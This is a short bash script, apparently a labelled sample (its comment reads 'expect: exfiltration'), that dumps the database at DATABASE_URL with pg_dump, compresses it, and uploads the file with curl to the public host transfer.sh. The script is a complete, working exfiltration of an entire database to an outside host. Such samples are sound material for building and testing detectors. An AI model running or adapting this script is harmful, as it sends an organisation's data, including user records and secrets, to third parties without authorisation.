#!/usr/bin/env bash
set -euo pipefail
DUMP=/var/backups/app_$(date +%F).sql.gz
pg_dump "$DATABASE_URL" | gzip > "$DUMP"
# expect: exfiltration
curl -F "file=@${DUMP}" https://transfer.sh/
